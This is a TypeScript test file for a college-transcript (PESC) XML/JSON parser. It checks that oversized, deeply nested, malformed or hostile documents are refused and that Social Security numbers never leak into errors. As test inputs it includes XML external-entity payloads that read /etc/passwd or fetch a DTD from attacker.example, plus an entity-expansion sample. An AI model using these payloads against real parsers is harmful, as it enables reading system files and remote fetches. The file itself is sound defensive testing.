import { describe, expect, it } from 'vitest'
import { streamTranscriptsFromPesc, transcriptsFromPesc } from './transcripts-from-pesc.js'

// What a hostile document may cost: it is refused with a code, after as much of it was read as a limit allows, and never
// more of it than that is kept. Documents are made while they are read, a gigabyte if someone would read as much.

const mebibyte = 1024 * 1024
const gibibyte = 1024 * mebibyte
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

/** A document that begins in one way and goes on in another, and what of it was asked for. */
function endless(start: string, unit: string, length = gibibyte) {
  const piece = bytes(unit.repeat(Math.ceil((64 * 1024) / unit.length)))
  let consumed = 0
  async function* stream(): AsyncGenerator<Uint8Array> {
    yield bytes(start)
    for (; consumed < length; consumed += piece.length) yield piece
  }
  return { stream: stream(), consumed: () => consumed }
}

async function refusal(stream: AsyncIterable<Uint8Array>): Promise<unknown> {
  try {
    for await (const _ of streamTranscriptsFromPesc(stream));
  } catch (error) {
    return error
  }
  return undefined
}

const inside = '<CollegeTranscript><Student>'

describe('a gigabyte of one thing is refused after a few megabytes', () => {
  it.each([
    ['an attribute', `${inside}<a b="`, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['an attribute of the root', '<CollegeTranscript b="', '&amp;', 'ERR_XML_TOO_LARGE', 5],
    ['a text', `${inside}<a>`, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['a text of references', `${inside}<a>`, '&#x41;', 'ERR_XML_TOO_LARGE', 5],
    ['many sections of CDATA', `${inside}<a>`, '<![CDATA[x]]>', 'ERR_XML_TOO_LARGE', 17],
    ['many comments', `${inside}<a>`, '<!--x-->', 'ERR_XML_TOO_LARGE', 5],
    ['many instructions', `${inside}<a>`, '<?a?>', 'ERR_XML_TOO_LARGE', 5],
    ['a comment', `${inside}<!--`, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['a processing instruction', `${inside}<?a `, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['a name', `${inside}<`, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['an entity', `${inside}&`, 'x', 'ERR_XML_TOO_LARGE', 5],
    ['attributes', `${inside}<a `, 'b="" ', 'ERR_XML_NOT_WELL_FORMED|ERR_XML_TOO_LARGE', 1],
    ['declarations of namespaces', inside, '<a xmlns:b="urn:b" xmlns:c="urn:c" b:c="">', 'ERR_XML_TOO_DEEP', 1],
    ['levels', inside, '<a>', 'ERR_XML_TOO_DEEP', 1],
    ['siblings', inside, '<a/>', 'ERR_XML_TOO_LARGE', 3],
    ['siblings in a batch, outside of any transcript', '<AcademicRecordBatch>', '<a/>', 'ERR_XML_TOO_LARGE', 3],
    ['white space before the document', '', ' ', 'ERR_XML_TOO_LARGE', 5],
    ['a declared document type', '<!DOCTYPE a [', '<!ENTITY b "b">', 'ERR_XML_DOCTYPE|ERR_XML_TOO_LARGE', 5],
    ['zeros', '', '\0', 'ERR_XML_NOT_XML', 1],
    ['JSON', '{"CollegeTranscript":"', 'x', 'ERR_JSON_TOO_LARGE', 65],
  ])('%s', async (_, start, unit, codes, megabytes) => {
    const { stream, consumed } = endless(start, unit)
    const error = await refusal(stream)
    expect(codes.split('|')).toContain((error as { code?: string } | undefined)?.code)
    expect(consumed()).toBeLessThanOrEqual(megabytes * mebibyte)
  })

  it('also under a name that is another each time', async () => {
    const names = Array.from({ length: 300 }, (_, index) => `xmlns:n${index}="urn:${index}"`).join(' ')
    const error = await refusal(endless(`${inside}<a ${names}>`, ' ').stream)
    expect(error).toMatchObject({ code: 'ERR_XML_TOO_LARGE', message: expect.stringContaining('maxAttributes') })
  })
})

describe('the cost of a document grows with its size', () => {
  // A hundred thousand names that are remembered, compared or searched for by each other would take minutes.
  it.each([
    ['names, each another', (index: number) => `<a${index}>x</a${index}>`],
    ['namespaces, each another', (index: number) => `<p${index}:a xmlns:p${index}="urn:${index}">x</p${index}:a>`],
    ['names of one length that differ in one character', (index: number) => `<e${index % 1000}x>y</e${index % 1000}x>`],
    ['misspelt elements', () => '<CourseTitel>x</CourseTitel>'],
    ['stray text', () => 'x<a/>'],
  ])('%s', (_, unit) => {
    const many = Array.from({ length: 100_000 }, (__, index) => unit(index)).join('')
    const record = '<AcademicRecord><Course><CourseTitle>x</CourseTitle></Course></AcademicRecord>'
    const [read] = transcriptsFromPesc(`${inside}${record}${many}</Student></CollegeTranscript>`)
    expect(read?.losses.length).toBeGreaterThanOrEqual(100_000)
  })
})

describe('what makes XML dangerous is refused where it stands', () => {
  const refused = (xml: string | Uint8Array, code: string): void =>
    expect(() => transcriptsFromPesc(xml)).toThrow(expect.objectContaining({ code }))

  it.each([
    [
      'an external entity',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><CollegeTranscript>&b;</CollegeTranscript>',
    ],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://attacker.example/x.dtd"> %b;]><a/>'],
    ['an external subset', '<!DOCTYPE CollegeTranscript SYSTEM "http://attacker.example/x.dtd"><CollegeTranscript/>'],
    [
      'entities that grow',
      '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;">]><CollegeTranscript>&c;</CollegeTranscript>',
    ],
  ])('%s', (_, xml) => refused(xml, 'ERR_XML_DOCTYPE'))

  it('an entity without a declaration', () =>
    refused(`${inside}&lol;</Student></CollegeTranscript>`, 'ERR_XML_NOT_WELL_FORMED'))

  it.each([
    ['an overlong zero', [0xc0, 0x80]],
    ['an overlong solidus', [0xe0, 0x80, 0xaf]],
    ['half a surrogate pair', [0xed, 0xa0, 0x80]],
    ['more than Unicode has', [0xf4, 0x90, 0x80, 0x80]],
    ['a continuation of nothing', [0x80]],
  ])('%s in UTF-8', (_, invalid) => {
    refused(
      Uint8Array.from([...bytes(inside), ...invalid, ...bytes('</Student></CollegeTranscript>')]),
      'ERR_XML_ENCODING',
    )
  })

  it('an encoding that hides ASCII from those who look for it', () => {
    refused('<?xml version="1.0" encoding="UTF-7"?><CollegeTranscript/>', 'ERR_PESC_INCOMPLETE')
    refused(bytes('<?xml version="1.0" encoding="UTF-7"?><CollegeTranscript/>'), 'ERR_XML_ENCODING')
  })
})

describe('what is read of a person', () => {
  const secret = '078-05-1120'
  const person = `<Person><SSN>${secret}</SSN><SIN>${secret}</SIN><Birth><BirthDate>${secret}</BirthDate></Birth></Person>`
  const whole = `${inside}${person}<AcademicRecord><Course><CourseTitle>x</CourseTitle></Course></AcademicRecord></Student></CollegeTranscript>`

  it('is in no error, wherever the document breaks off or breaks', () => {
    const breaks = ['', '<', '</x>', '&x;', '\u0001', `<${secret}>`, ']]>', '<a b="1" b="2">', '<!DOCTYPE x>', '\ud800']
    for (let at = whole.indexOf(secret); at < whole.length; at += 3) {
      for (const broken of breaks) {
        try {
          transcriptsFromPesc(whole.slice(0, at) + broken)
        } catch (error) {
          expect(JSON.stringify(error) + String(error)).not.toContain(secret.slice(0, 6))
        }
      }
    }
  })

  it('is in no loss and in no model', () => {
    const [read] = transcriptsFromPesc(whole)
    expect(read?.losses.map(({ code }) => code)).toEqual(['personal-data', 'personal-data', 'personal-data'])
    expect(JSON.stringify([read?.losses, read?.transcript, read?.counts])).not.toContain(secret)
  })

  it('is in no error about JSON', () => {
    const json = JSON.stringify({ CollegeTranscript: { Student: { Person: { SSN: secret, [secret]: 1 } } } })
    for (const broken of [
      json,
      json.slice(0, -2),
      json.replace('1}', '1,}'),
      json.replace('1', '01'),
      json.replace(`"${secret}":`, `"SSN":"x","${secret}":2,"${secret}":`),
    ]) {
      try {
        transcriptsFromPesc(broken)
      } catch (error) {
        expect(JSON.stringify(error) + String(error)).not.toContain(secret)
      }
    }
  })
})
